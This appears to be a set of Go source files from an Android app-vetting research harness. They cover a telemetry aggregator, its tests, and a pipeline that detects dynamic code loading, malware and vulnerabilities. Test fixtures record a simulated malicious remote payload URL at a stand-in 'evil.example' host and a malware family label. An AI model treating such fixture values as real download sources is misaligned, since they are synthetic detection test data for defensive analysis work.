	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				d := testDigest(i % 16)
				if i%2 == w%2 {
					s.Put(storedTrace(d))
				} else {
					s.Get(d)
				}
			}
		}(w)
	}
	wg.Wait()
	if s.Len() > 8 {
		t.Fatalf("len = %d, want <= cap", s.Len())
	}
}

func TestStoreMetrics(t *testing.T) {
	reg := metrics.New()
	s, err := OpenStore(StoreOptions{Cap: 2, Metrics: reg})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if err := s.Put(storedTrace(testDigest(i))); err != nil {
			t.Fatal(err)
		}
	}
	if got := reg.Counter("trace.store.puts"); got != 3 {
		t.Fatalf("puts counter = %d, want 3", got)
	}
	if got := reg.Counter("trace.store.evictions"); got != 1 {
		t.Fatalf("evictions counter = %d, want 1", got)
	}
	if got := reg.Gauge("trace.store.len"); got != 2 {
		t.Fatalf("occupancy gauge = %d, want 2", got)
	}
	// Refreshing an existing digest counts as a put but changes nothing else.
	if err := s.Put(storedTrace(testDigest(1))); err != nil {
		t.Fatal(err)
	}
	if got := reg.Counter("trace.store.puts"); got != 4 {
		t.Fatalf("puts counter after refresh = %d, want 4", got)
	}
	if got := reg.Gauge("trace.store.len"); got != 2 {
		t.Fatalf("occupancy gauge after refresh = %d, want 2", got)
	}
}
