// Package telemetry is the fleet observatory of the measurement harness:
// a streaming aggregator that ingests every completed analysis
// (core.AppResult plus its span tree) and maintains online, mergeable,
// paper-style aggregates — DCL prevalence by loader kind, provenance and
// responsible entity, bouncer verdicts, packer and obfuscation counts,
// cross-shard-mergeable stage-latency histograms, a space-saving top-K of
// SDK entities, the slowest analyses, and bounded rings of recent DCL
// events and failures.
//
// The aggregate state lives in a Snapshot, the serialization and merge
// unit: the vetting daemon serves its live snapshot at /v1/fleet (and an
// HTML rendering at /v1/dashboard), each experiments shard writes one as
// fleet.json, and `apkinspect fleet merge` folds shard snapshots into the
// single-fleet report. Merging the per-shard snapshots of a partitioned
// corpus reproduces the unpartitioned aggregate exactly (see Merge and
// the associativity property tests).
package telemetry

import (
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/trace"
)

// Default sketch capacities.
const (
	// DefaultTopK bounds the SDK-entity space-saving sketch.
	DefaultTopK = 32
	// DefaultSlowest bounds the slowest-analyses list.
	DefaultSlowest = 10
	// DefaultRing bounds the recent-event rings.
	DefaultRing = 32
)

// Options configure an Aggregator.
type Options struct {
	// TopK bounds the SDK-entity sketch (default DefaultTopK).
	TopK int
	// Slowest bounds the slowest-analyses list (default DefaultSlowest).
	Slowest int
	// Ring bounds the recent DCL / recent error rings (default
	// DefaultRing).
	Ring int
	// SLO declares the tracked service objectives (zero values pick the
	// defaults: 99.9% scan availability, 99% of analyses under 2s).
	SLO SLOOptions
}

// Aggregator is the streaming fleet aggregate. All methods are safe for
// concurrent use and no-ops on a nil receiver, so callers can thread an
// optional *Aggregator without nil checks.
type Aggregator struct {
	mu   sync.Mutex
	snap *Snapshot
}

// New creates an empty aggregator.
func New(opts Options) *Aggregator {
	snap := NewSnapshot(opts.TopK, opts.Slowest, opts.Ring)
	snap.SLO = NewSLOState(opts.SLO)
	return &Aggregator{snap: snap}
}

// ObserveApp folds one completed analysis into the aggregate. tr, when
// non-nil, contributes the stage-latency histograms, the slowest-apps
// list and the event timestamps (the root span's end time — deterministic
// for a given set of traces, so shard snapshots merge reproducibly). A
// nil trace (e.g. a warm-start cache hit) still counts every measurement
// aggregate.
func (a *Aggregator) ObserveApp(res *core.AppResult, tr *trace.Trace) {
	if a == nil || res == nil {
		return
	}
	var at time.Time
	if tr != nil && tr.Root != nil {
		at = tr.Root.EndAt
	}

	a.mu.Lock()
	defer a.mu.Unlock()
	s := a.snap
	s.Apps++
	c := s.Counters
	c["status."+string(res.Status)]++

	// Prevalence: candidate sets from the pipeline's own static
	// pre-filter, interception from the dynamic events (Table II shape).
	if res.Status != core.StatusUnpackFailure {
		if res.PreFilter.HasDexDCL {
			c["apps.dex-candidate"]++
		}
		if res.PreFilter.HasNativeDCL {
			c["apps.native-candidate"]++
		}
	}

	var dexOwn, dexThird, natOwn, natThird, anyDex, anyNative, anyRemote bool
	for _, ev := range res.Events {
		if ev.SystemLib {
			continue
		}
		c["dcl.kind."+string(ev.Kind)]++
		c["dcl.api."+ev.API]++
		c["dcl.provenance."+string(ev.Provenance)]++
		c["dcl.entity."+string(ev.Entity)]++
		switch ev.Kind {
		case core.KindDex:
			anyDex = true
		case core.KindNative:
			anyNative = true
		}
		switch ev.Entity {
		case core.EntityOwn:
			if ev.Kind == core.KindDex {
				dexOwn = true
			} else {
				natOwn = true
			}
		case core.EntityThirdParty:
			if ev.Kind == core.KindDex {
				dexThird = true
			} else {
				natThird = true
			}
			s.TopEntities.Observe(ev.CallSite)
		}
		if ev.Provenance == core.ProvenanceRemote {
			anyRemote = true
		}
		s.RecentDCL.Observe(RecentDCL{
			Time: at, Package: res.Package, Kind: string(ev.Kind), API: ev.API,
			Path: ev.Path, Entity: string(ev.Entity), Provenance: string(ev.Provenance),
			SourceURL: ev.SourceURL,
		})
	}
	countIf(c, "apps.dex-dcl", anyDex)
	countIf(c, "apps.native-dcl", anyNative)
	countIf(c, "apps.remote", anyRemote)
	countIf(c, "apps.dex-entity.own", dexOwn)
	countIf(c, "apps.dex-entity.third-party", dexThird)
	countIf(c, "apps.dex-entity.both", dexOwn && dexThird)
	countIf(c, "apps.native-entity.own", natOwn)
	countIf(c, "apps.native-entity.third-party", natThird)
	countIf(c, "apps.native-entity.both", natOwn && natThird)

	// Obfuscation and packer adoption (Table VI shape; DEX encryption is
	// the packer signal).
	o := res.Obfuscation
	countIf(c, "obfuscation.lexical", o.Lexical)
	countIf(c, "obfuscation.reflection", o.Reflection)
	countIf(c, "obfuscation.native", o.Native)
	countIf(c, "obfuscation.dex-encryption", o.DEXEncryption)
	countIf(c, "obfuscation.anti-decompile", o.AntiDecompile)

	countIf(c, "apps.malware", len(res.Malware) > 0)
	c["malware.hits"] += int64(len(res.Malware))
	for _, hit := range res.Malware {
		c["malware.family."+hit.Family]++
	}
	for _, v := range res.Vulns {
		c["vuln."+string(v.Kind)]++
	}
	countIf(c, "apps.vulnerable", len(res.Vulns) > 0)
	countIf(c, "apps.privacy-leak", res.Privacy != nil && len(res.Privacy.LeakedTypes()) > 0)

	if tr != nil && tr.Root != nil {
		tr.Root.Walk(func(sp *trace.Span) {
			h := s.Stages[sp.Name]
			if h == nil {
				h = &Hist{}
				s.Stages[sp.Name] = h
			}
			h.Observe(sp.Duration())
			// Spans the profiling meter stamped contribute to the
			// cost-per-stage attribution table.
			if sp.Attr(profile.AttrCPUNS) != "" {
				sc := s.Costs[sp.Name]
				if sc == nil {
					sc = &StageCost{}
					s.Costs[sp.Name] = sc
				}
				sc.Count++
				sc.CPUNS += sp.IntAttr(profile.AttrCPUNS)
				sc.AllocBytes += sp.IntAttr(profile.AttrAllocBytes)
				sc.AllocObjects += sp.IntAttr(profile.AttrAllocObjects)
			}
		})
		s.SlowestApps.Observe(SlowApp{
			Package: res.Package, Digest: tr.Digest, NS: int64(tr.Root.Duration()),
		})
		// SLO verdicts: a completed analysis is availability-good; it is
		// latency-good when the whole run beat the declared threshold. The
		// trace's end time keys the minute bucket, so shard merges stay
		// deterministic.
		if av := s.SLO.find(SLOScanAvailability); av != nil {
			av.observe(at, true)
		}
		if lat := s.SLO.find(SLOAnalyzeLatency); lat != nil {
			lat.observe(at, int64(tr.Root.Duration()) <= lat.ThresholdNS)
		}
	}
}

// countIf bumps key when cond holds.
func countIf(c map[string]int64, key string, cond bool) {
	if cond {
		c[key]++
	}
}

// ObserveVerdict folds one marketplace review verdict into the aggregate.
func (a *Aggregator) ObserveVerdict(approved bool) {
	if a == nil {
		return
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if approved {
		a.snap.Counters["verdict.approved"]++
	} else {
		a.snap.Counters["verdict.rejected"]++
	}
}

// ObserveError records one analysis failure. tr, when non-nil, provides
// the failure timestamp (its root span end time).
func (a *Aggregator) ObserveError(pkg string, err error, tr *trace.Trace) {
	if a == nil || err == nil {
		return
	}
	var at time.Time
	if tr != nil && tr.Root != nil {
		at = tr.Root.EndAt
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	a.snap.Errors++
	a.snap.RecentErrors.Observe(RecentError{Time: at, Package: pkg, Err: err.Error()})
	if av := a.snap.SLO.find(SLOScanAvailability); av != nil {
		av.observe(at, false)
	}
}

// Snapshot returns a deep copy of the current aggregate, safe to
// serialize or merge while ingestion continues.
func (a *Aggregator) Snapshot() *Snapshot {
	if a == nil {
		return NewSnapshot(0, 0, 0)
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	s := a.snap
	cp := &Snapshot{
		Version:      s.Version,
		Shards:       s.Shards,
		Apps:         s.Apps,
		Errors:       s.Errors,
		Counters:     make(map[string]int64, len(s.Counters)),
		Stages:       make(map[string]*Hist, len(s.Stages)),
		Costs:        make(map[string]*StageCost, len(s.Costs)),
		TopEntities:  TopK{K: s.TopEntities.K, Entries: append([]TopEntry(nil), s.TopEntities.Entries...)},
		SlowestApps:  TopApps{K: s.SlowestApps.K, Entries: append([]SlowApp(nil), s.SlowestApps.Entries...)},
		RecentDCL:    Ring[RecentDCL]{K: s.RecentDCL.K, Entries: append([]RecentDCL(nil), s.RecentDCL.Entries...)},
		RecentErrors: Ring[RecentError]{K: s.RecentErrors.K, Entries: append([]RecentError(nil), s.RecentErrors.Entries...)},
		Events:       events.Log{K: s.Events.K, Entries: append([]events.Event(nil), s.Events.Entries...)},
		SLO:          s.SLO.clone(),
	}
	for k, v := range s.Counters {
		cp.Counters[k] = v
	}
	for name, h := range s.Stages {
		hc := *h
		hc.Buckets = append([]int64(nil), h.Buckets...)
		cp.Stages[name] = &hc
	}
	for name, sc := range s.Costs {
		scc := *sc
		cp.Costs[name] = &scc
	}
	return cp
}

// SLOReports evaluates the live SLO state's burn-rate reports at now
// without deep-copying the whole snapshot — the per-analysis alert check
// the profile-capture trigger uses.
func (a *Aggregator) SLOReports(now time.Time) []SLOReport {
	if a == nil {
		return nil
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.snap.SLO == nil {
		return nil
	}
	return a.snap.SLO.Reports(now)
}
