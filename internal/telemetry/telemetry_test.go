package telemetry

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/trace"
)

// appTrace builds a deterministic closed span tree: an "app" root with an
// "analyze" child, start pinned to base and the given durations.
func appTrace(digest string, base time.Time, total, analyze time.Duration) *trace.Trace {
	root := &trace.Span{Name: "app", StartAt: base, EndAt: base.Add(total)}
	child := &trace.Span{Name: "analyze", StartAt: base, EndAt: base.Add(analyze)}
	// Deterministic cost attrs, as the profiling meter would stamp them,
	// so the merge property tests cover the Costs table too.
	child.SetIntAttr(profile.AttrCPUNS, int64(analyze))
	child.SetIntAttr(profile.AttrAllocBytes, 4096)
	child.SetIntAttr(profile.AttrAllocObjects, 16)
	root.Children = []*trace.Span{child}
	return &trace.Trace{ID: "t-" + digest, Digest: digest, Root: root}
}

func TestObserveAppAggregates(t *testing.T) {
	a := New(Options{})
	base := time.Date(2026, 8, 1, 0, 0, 0, 0, time.UTC)
	res := &core.AppResult{
		Package: "com.example.app",
		Status:  core.StatusExercised,
		Events: []*core.DCLEvent{
			{Kind: core.KindDex, API: "DexClassLoader", Path: "/data/p.dex",
				CallSite: "com.ads.sdk.Loader", Entity: core.EntityThirdParty,
				Provenance: core.ProvenanceRemote, SourceURL: "http://cdn.example/p.dex"},
			{Kind: core.KindNative, API: "System.load", Path: "/data/l.so",
				CallSite: "com.example.app.Main", Entity: core.EntityOwn,
				Provenance: core.ProvenanceLocal},
			{Kind: core.KindDex, API: "PathClassLoader", Path: "/system/fw.jar",
				SystemLib: true},
		},
		Malware: []core.MalwareHit{{Path: "/data/p.dex", Kind: core.KindDex, Family: "dowgin", Score: 0.9}},
		Vulns:   []core.Vulnerability{{Kind: core.VulnExternalStorage, Code: core.KindDex, Path: "/sdcard/x.dex"}},
	}
	res.PreFilter.HasDexDCL = true
	a.ObserveApp(res, appTrace("ab12", base, 80*time.Millisecond, 60*time.Millisecond))
	a.ObserveVerdict(false)
	a.ObserveError("com.broken.app", errFake("vm exploded"), nil)

	s := a.Snapshot()
	if s.Apps != 1 || s.Errors != 1 {
		t.Fatalf("apps=%d errors=%d", s.Apps, s.Errors)
	}
	for key, want := range map[string]int64{
		"status.exercised":            1,
		"apps.dex-candidate":          1,
		"apps.dex-dcl":                1,
		"apps.native-dcl":             1,
		"apps.remote":                 1,
		"apps.dex-entity.third-party": 1,
		"apps.native-entity.own":      1,
		"dcl.kind.dex":                1, // system-lib load skipped
		"dcl.kind.native":             1,
		"dcl.api.DexClassLoader":      1,
		"dcl.provenance.remote":       1,
		"dcl.entity.third-party":      1,
		"apps.malware":                1,
		"malware.hits":                1,
		"malware.family.dowgin":       1,
		"vuln.external-storage":       1,
		"verdict.rejected":            1,
	} {
		if got := s.Counters[key]; got != want {
			t.Errorf("counter %s = %d, want %d", key, got, want)
		}
	}
	if len(s.TopEntities.Entries) != 1 || s.TopEntities.Entries[0].Key != "com.ads.sdk.Loader" {
		t.Fatalf("top entities = %+v", s.TopEntities.Entries)
	}
	if h := s.Stages["analyze"]; h == nil || h.Count != 1 || h.Quantile(0.5) != 60*time.Millisecond {
		t.Fatalf("analyze stage hist = %+v", s.Stages["analyze"])
	}
	if len(s.SlowestApps.Entries) != 1 || s.SlowestApps.Entries[0].NS != int64(80*time.Millisecond) {
		t.Fatalf("slowest = %+v", s.SlowestApps.Entries)
	}
	if len(s.RecentDCL.Entries) != 2 {
		t.Fatalf("recent DCL ring = %+v", s.RecentDCL.Entries)
	}
	if got := s.RecentDCL.Entries[0].Time; !got.Equal(base.Add(80 * time.Millisecond)) {
		t.Fatalf("recent event time = %v", got)
	}
	if len(s.RecentErrors.Entries) != 1 || s.RecentErrors.Entries[0].Err != "vm exploded" {
		t.Fatalf("recent errors = %+v", s.RecentErrors.Entries)
	}
}

type errFake string

func (e errFake) Error() string { return string(e) }

func TestNilAggregatorIsNoOp(t *testing.T) {
	var a *Aggregator
	a.ObserveApp(&core.AppResult{Package: "x"}, nil)
	a.ObserveVerdict(true)
	a.ObserveError("x", errFake("boom"), nil)
	if s := a.Snapshot(); s == nil || s.Apps != 0 {
		t.Fatalf("nil aggregator snapshot = %+v", s)
	}
}

func TestHistMatchesMetricsBuckets(t *testing.T) {
	h := &Hist{}
	reg := metrics.New()
	for _, d := range []time.Duration{3 * time.Microsecond, 900 * time.Microsecond, 12 * time.Millisecond, 12 * time.Millisecond} {
		h.Observe(d)
		reg.Observe("stage", d)
	}
	want := reg.HistSnapshot("stage")
	if h.Count != want.Count || h.Quantile(0.5) != want.P50 || time.Duration(h.MaxNS) != want.Max {
		t.Fatalf("hist (count=%d p50=%v max=%v) disagrees with metrics (count=%d p50=%v max=%v)",
			h.Count, h.Quantile(0.5), time.Duration(h.MaxNS), want.Count, want.P50, want.Max)
	}
}

func TestTopKSpaceSaving(t *testing.T) {
	tk := TopK{K: 2}
	for i := 0; i < 5; i++ {
		tk.Observe("heavy")
	}
	tk.Observe("mid")
	tk.Observe("mid")
	// Sketch full: a new key evicts the minimum and inherits its count.
	tk.Observe("new")
	if len(tk.Entries) != 2 {
		t.Fatalf("entries = %+v", tk.Entries)
	}
	if tk.Entries[0].Key != "heavy" || tk.Entries[0].Count != 5 || tk.Entries[0].Err != 0 {
		t.Fatalf("heavy entry = %+v", tk.Entries[0])
	}
	if tk.Entries[1].Key != "new" || tk.Entries[1].Count != 3 || tk.Entries[1].Err != 2 {
		t.Fatalf("evicting entry = %+v", tk.Entries[1])
	}
}

func TestSnapshotFileRoundTrip(t *testing.T) {
	a := New(Options{})
	a.ObserveApp(&core.AppResult{Package: "com.x", Status: core.StatusNoDCL}, nil)
	snap := a.Snapshot()
	path := filepath.Join(t.TempDir(), "fleet.json")
	if err := snap.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	got, err := ReadSnapshot(path)
	if err != nil {
		t.Fatal(err)
	}
	want, _ := json.Marshal(snap)
	have, _ := json.Marshal(got)
	if string(want) != string(have) {
		t.Fatalf("round trip mismatch:\n%s\n%s", want, have)
	}
	// A wrong version must be rejected, not silently merged.
	got.Version = 99
	if err := got.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadSnapshot(path); err == nil {
		t.Fatal("version 99 snapshot accepted")
	}
}

func TestMeasurementReportRenders(t *testing.T) {
	a := New(Options{})
	a.ObserveApp(&core.AppResult{
		Package: "com.x", Status: core.StatusExercised,
		Events: []*core.DCLEvent{{Kind: core.KindDex, API: "DexClassLoader",
			Path: "/data/x.dex", CallSite: "com.sdk.A", Entity: core.EntityThirdParty,
			Provenance: core.ProvenanceLocal}},
	}, nil)
	a.ObserveVerdict(true)
	out := a.Snapshot().Report()
	for _, want := range []string{
		"fleet: 1 apps across 1 shard(s)",
		"Apps by status",
		"DCL prevalence",
		"DexClassLoader",
		"Top third-party entities",
		"com.sdk.A",
		"Bouncer approved",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("report missing %q:\n%s", want, out)
		}
	}
}

func TestDashboardRenders(t *testing.T) {
	a := New(Options{})
	base := time.Date(2026, 8, 1, 12, 0, 0, 0, time.UTC)
	res := &core.AppResult{
		Package: "com.dash.app", Status: core.StatusExercised,
		Events: []*core.DCLEvent{{Kind: core.KindDex, API: "DexClassLoader",
			Path: "/data/d.dex", CallSite: "com.sdk.B", Entity: core.EntityThirdParty,
			Provenance: core.ProvenanceRemote, SourceURL: "http://evil.example/d.dex"}},
	}
	a.ObserveApp(res, appTrace("cd34", base, 50*time.Millisecond, 40*time.Millisecond))
	a.ObserveError("com.sad.app", errFake("decompiler gave up"), nil)

	var b strings.Builder
	err := RenderDashboard(&b, DashboardData{
		Title:   "dydroidd fleet",
		Refresh: 2,
		Header:  []KV{{Key: "record version", Value: "1"}},
		Snap:    a.Snapshot(),
		Gauges:  map[string]int64{"runtime.goroutines": 12, "runtime.heap_alloc_bytes": 5 << 20},
		Now:     base,
	})
	if err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		`<meta http-equiv="refresh" content="2">`,
		"dydroidd fleet",
		"record version: 1",
		"com.dash.app",
		"com.sdk.B",
		"Recent DCL events",
		"decompiler gave up",
		"goroutines",
		"5.0 MiB",
		"Stage latency",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("dashboard missing %q", want)
		}
	}
	if strings.Contains(out, "<script") {
		t.Fatal("dashboard must not ship scripts")
	}
}

func TestRuntimeSampler(t *testing.T) {
	reg := metrics.New()
	SampleRuntime(reg)
	if reg.Gauge("runtime.goroutines") <= 0 {
		t.Fatalf("goroutines gauge = %d", reg.Gauge("runtime.goroutines"))
	}
	if reg.Gauge("runtime.heap_alloc_bytes") <= 0 {
		t.Fatalf("heap gauge = %d", reg.Gauge("runtime.heap_alloc_bytes"))
	}
}

func TestAggregatorConcurrent(t *testing.T) {
	a := New(Options{})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			base := time.Date(2026, 8, 1, 0, 0, 0, 0, time.UTC)
			for i := 0; i < 50; i++ {
				res := &core.AppResult{
					Package: "com.w" + string(rune('a'+w)), Status: core.StatusExercised,
					Events: []*core.DCLEvent{{Kind: core.KindDex, API: "DexClassLoader",
						Path: "/data/x.dex", CallSite: "com.sdk.C",
						Entity: core.EntityThirdParty, Provenance: core.ProvenanceLocal}},
				}
				a.ObserveApp(res, appTrace("ee00", base, time.Millisecond, time.Millisecond))
				a.ObserveVerdict(i%2 == 0)
				if i%10 == 0 {
					a.Snapshot()
				}
			}
		}(w)
	}
	wg.Wait()
	s := a.Snapshot()
	if s.Apps != 400 {
		t.Fatalf("apps = %d, want 400", s.Apps)
	}
	if s.Counters["dcl.api.DexClassLoader"] != 400 {
		t.Fatalf("dcl counter = %d", s.Counters["dcl.api.DexClassLoader"])
	}
}
