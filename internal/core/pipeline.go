package core

import (
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"strconv"
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/apktool"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/monkey"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/netsim"
	"github.com/dydroid/dydroid/internal/obfuscation"
	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/taint"
	"github.com/dydroid/dydroid/internal/trace"
	"github.com/dydroid/dydroid/internal/vm"
)

// Options configure an Analyzer.
type Options struct {
	// MonkeyEvents is the fuzzing budget per app (default 25).
	MonkeyEvents int
	// Seed drives the fuzzer deterministically.
	Seed int64
	// Tool is the apktool installation (zero value = the buggy
	// measurement-era version).
	Tool apktool.Tool
	// Classifier is the trained DroidNative detector; nil disables
	// malware detection.
	Classifier *droidnative.Classifier
	// Network is the marketplace network serving remote payloads; it is
	// cloned per app run. Nil means no connectivity.
	Network *netsim.Network
	// SetupDevice provisions companion apps (ad-target apps, Adobe AIR,
	// chat apps) on the fresh per-run device.
	SetupDevice func(*android.Device) error
	// StorageQuota bounds device storage (0 = unlimited); exercises the
	// storage-exhaustion exception handling.
	StorageQuota int64
	// RunDynamicWithoutDCL forces dynamic analysis even when the
	// pre-filter finds no DCL code (ablation; the paper skips such apps).
	RunDynamicWithoutDCL bool
	// DisableDeleteBlocking turns off the interception queue's
	// delete/rename blocking (ablation: temporary loaded files vanish
	// before the dump phase).
	DisableDeleteBlocking bool
	// StepBudget overrides the per-invocation VM budget (0 = default).
	StepBudget int
	// Metrics, when non-nil, receives per-stage duration histograms
	// (stage.unpack / stage.rewrite / stage.dynamic / stage.static /
	// stage.replay), app.total timings, and status.* counters. A nil
	// registry disables instrumentation at zero cost.
	Metrics *metrics.Registry
}

// Analyzer is the DyDroid pipeline.
type Analyzer struct {
	opts Options
}

// NewAnalyzer creates a pipeline with the given options.
func NewAnalyzer(opts Options) *Analyzer {
	if opts.MonkeyEvents == 0 {
		opts.MonkeyEvents = 25
	}
	return &Analyzer{opts: opts}
}

// AnalyzeAPK runs the full pipeline (Fig. 1) on one application archive:
// decompile, static pre-filter and obfuscation analysis, rewrite, dynamic
// exercise with DCL logging/interception/tracking, then static malware,
// vulnerability and privacy analysis of the intercepted code. When
// Options.Metrics is set, every stage duration and the final status are
// recorded into the registry.
func (a *Analyzer) AnalyzeAPK(apkBytes []byte) (*AppResult, error) {
	return a.AnalyzeAPKContext(context.Background(), apkBytes)
}

// AnalyzeAPKContext is AnalyzeAPK joining the trace carried by ctx: it
// opens an "analyze" span (the root of a fresh trace when ctx carries
// none) with one child span per executed pipeline stage, and stores the
// resulting span tree in AppResult.Trace.
func (a *Analyzer) AnalyzeAPKContext(ctx context.Context, apkBytes []byte) (*AppResult, error) {
	ctx, span := trace.Start(ctx, "analyze")
	stop := a.opts.Metrics.Time("app.total")
	res, err := a.analyzeAPK(ctx, apkBytes)
	stop()
	if err != nil {
		span.EndErr(err)
		a.opts.Metrics.Add("status."+string(StatusAnalysisError), 1)
		return nil, err
	}
	span.SetAttr("package", res.Package)
	span.SetAttr("status", string(res.Status))
	span.End()
	res.Trace = trace.FromContext(ctx)
	a.opts.Metrics.Add("status."+string(res.Status), 1)
	return res, nil
}

func (a *Analyzer) analyzeAPK(ctx context.Context, apkBytes []byte) (*AppResult, error) {
	res := &AppResult{}

	_, sUnpack := trace.Start(ctx, "unpack")
	mUnpack := profile.MeterSpan(sUnpack)
	tUnpack := time.Now()
	u, err := a.opts.Tool.Unpack(apkBytes)
	if err != nil {
		a.opts.Metrics.Observe("stage.unpack", time.Since(tUnpack))
		mUnpack()
		if errors.Is(err, apktool.ErrDecompile) {
			sUnpack.SetAttr("anti-decompile", "true")
			sUnpack.End()
			res.Status = StatusUnpackFailure
			res.Obfuscation.AntiDecompile = true
			return res, nil
		}
		sUnpack.EndErr(err)
		return nil, fmt.Errorf("core: %w", err)
	}
	res.Package = u.APK.Manifest.Package
	res.PreFilter = obfuscation.PreFilter(u)
	det := obfuscation.Detector{Tool: a.opts.Tool}
	res.Obfuscation = det.AnalyzeUnpacked(u)
	a.opts.Metrics.Observe("stage.unpack", time.Since(tUnpack))
	sUnpack.SetAttr("dex-dcl", strconv.FormatBool(res.PreFilter.HasDexDCL))
	sUnpack.SetAttr("native-dcl", strconv.FormatBool(res.PreFilter.HasNativeDCL))
	mUnpack()
	sUnpack.End()

	if !res.PreFilter.HasDexDCL && !res.PreFilter.HasNativeDCL && !a.opts.RunDynamicWithoutDCL {
		res.Status = StatusNoDCL
		return res, nil
	}

	// From here on the archive is parsed exactly once (the Unpack above):
	// the rewrite and dynamic stages consume the parsed package and the
	// decoded bytecode directly, and replays reuse res.Prepared.
	prep := &PreparedApp{APK: u.APK, Dex: u.Dex, raw: apkBytes}
	res.Prepared = prep

	// Rewrite with the logging permission when missing. RepackParsed
	// mutates a deep copy of the already-parsed manifest; the rewritten
	// archive is serialized lazily (once) when the installer needs bytes.
	runPrep := prep
	if !u.APK.Manifest.HasPermission(apk.WriteExternalStorage) {
		_, sRewrite := trace.Start(ctx, "rewrite")
		mRewrite := profile.MeterSpan(sRewrite)
		tRewrite := time.Now()
		rewritten, err := a.opts.Tool.RepackParsed(u.APK)
		a.opts.Metrics.Observe("stage.rewrite", time.Since(tRewrite))
		mRewrite()
		if err != nil {
			if errors.Is(err, apktool.ErrRepack) {
				sRewrite.SetAttr("anti-repackaging", "true")
				sRewrite.End()
				res.Status = StatusRewriteFailure
				return res, nil
			}
			sRewrite.EndErr(err)
			return nil, fmt.Errorf("core: %w", err)
		}
		sRewrite.End()
		runPrep = &PreparedApp{APK: rewritten, Dex: u.Dex}
	}

	// Dynamic phase, with one retry after cleaning external storage when
	// the device runs out of space (automatic exception handling).
	dctx, sDynamic := trace.Start(ctx, "dynamic")
	mDynamic := profile.MeterSpan(sDynamic)
	tDynamic := time.Now()
	run, err := a.runDynamic(dctx, runPrep, nil)
	if err != nil && isNoSpace(err) {
		a.opts.Metrics.Add("dynamic.nospace-retries", 1)
		sDynamic.SetAttr("nospace-retry", "true")
		run, err = a.runDynamic(dctx, runPrep, func(dev *android.Device) {
			dev.Storage.RemovePrefix(LogRoot)
		})
	}
	a.opts.Metrics.Observe("stage.dynamic", time.Since(tDynamic))
	mDynamic()
	if err != nil {
		sDynamic.EndErr(err)
		return nil, fmt.Errorf("core: %w", err)
	}
	sDynamic.SetAttr("outcome", string(run.outcome))
	sDynamic.SetAttr("events", strconv.Itoa(len(run.events)))
	for _, ev := range run.events {
		sDynamic.AddEvent("dcl",
			trace.A("kind", string(ev.Kind)),
			trace.A("api", ev.API),
			trace.A("path", ev.Path),
			trace.A("entity", string(ev.Entity)),
			trace.A("provenance", string(ev.Provenance)))
	}
	sDynamic.End()
	res.Events = run.events
	res.RuntimeEvents = run.vmEvents
	switch run.outcome {
	case monkey.OutcomeNoActivity:
		res.Status = StatusNoActivity
		return res, nil
	case monkey.OutcomeCrash:
		// Crashes keep whatever was intercepted before the process died.
		res.Status = StatusCrash
		res.Crash = run.crash
	default:
		res.Status = StatusExercised
	}

	_, sStatic := trace.Start(ctx, "static")
	mStatic := profile.MeterSpan(sStatic)
	tStatic := time.Now()
	a.staticOnIntercepted(res)
	minSDK := u.APK.Manifest.MinSDK
	res.Vulns = AnalyzeVulnerabilities(res.Package, minSDK, res.Events)
	a.opts.Metrics.Observe("stage.static", time.Since(tStatic))
	sStatic.SetAttr("malware", strconv.Itoa(len(res.Malware)))
	sStatic.SetAttr("vulns", strconv.Itoa(len(res.Vulns)))
	mStatic()
	sStatic.End()
	return res, nil
}

// isNoSpace reports whether the error chain reaches the storage layer's
// quota-exhaustion sentinel. Every exhaustion path wraps
// android.ErrNoSpace (the VM preserves inner error chains with %w), so a
// plain errors.Is suffices — no string matching.
func isNoSpace(err error) bool {
	return errors.Is(err, android.ErrNoSpace)
}

// PreparedApp is the parse-once state of one application archive: the
// parsed package, its decoded bytecode, and the serialized archive bytes
// (kept when the pipeline received them, built lazily — at most once —
// otherwise). AnalyzeAPK publishes it on AppResult.Prepared so the
// replay path reuses the same parse instead of re-reading the archive.
type PreparedApp struct {
	// APK is the parsed package, shared (not copied) across stages.
	APK *apk.APK
	// Dex is the decoded bytecode (nil when the app ships none). The VM
	// boots from it directly; decoded classes are immutable at runtime.
	Dex *dex.File

	raw       []byte // archive as received; nil → serialize on demand
	buildOnce sync.Once
	built     []byte
	buildErr  error
}

// Archive returns the serialized archive, building (and caching) it when
// the prepared app was never in byte form — the rewritten package, whose
// serialization is deferred until the installer actually stores it.
func (p *PreparedApp) Archive() ([]byte, error) {
	if p.raw != nil {
		return p.raw, nil
	}
	p.buildOnce.Do(func() {
		p.built, p.buildErr = apk.Build(p.APK)
	})
	return p.built, p.buildErr
}

// PrepareAPK parses an archive once into the form the replay path
// consumes. AnalyzeAPK callers get one for free via AppResult.Prepared.
